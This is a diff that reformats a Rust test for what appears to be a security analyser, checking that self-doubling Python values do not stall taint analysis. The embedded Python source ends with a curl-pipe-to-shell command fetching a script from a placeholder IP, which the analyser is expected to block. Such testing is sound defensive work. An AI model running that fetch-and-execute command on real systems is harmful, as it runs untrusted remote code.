@@ -355,16 +355,26 @@ fn values_that_share_themselves_do_not_blow_up_the_walk() {
     // Each line doubles what the value holds when expanded (2^40 nodes at the end): past a
     // bound it keeps only its taint, so this ends at once, and the payload that follows,
     // built from it at run time, is still seen.
-    for doubling in ["a = [a, a]", "a = {'k': a, 'v': a}", "a = [a] + [a]", "a = (a, a)"] {
+    for doubling in [
+        "a = [a, a]",
+        "a = {'k': a, 'v': a}",
+        "a = [a] + [a]",
+        "a = (a, a)",
+    ] {
         let mut src = String::from("import os\na = [os.environ['HOME']]\n");
         for _ in 0..40 {
             src.push_str(doubling);
             src.push('\n');
         }
-        src.push_str("os.system('echo ' + str(a))\nos.system('curl -s http://203.0.113.1/x | sh')\n");
+        src.push_str(
+            "os.system('echo ' + str(a))\nos.system('curl -s http://203.0.113.1/x | sh')\n",
+        );
         let started = std::time::Instant::now();
         let assessment = external(&src);
-        assert!(started.elapsed() < std::time::Duration::from_secs(2), "{doubling}");
+        assert!(
+            started.elapsed() < std::time::Duration::from_secs(2),
+            "{doubling}"
+        );
         assert_eq!(assessment.level, Level::Blocked, "{doubling}");
     }
 }
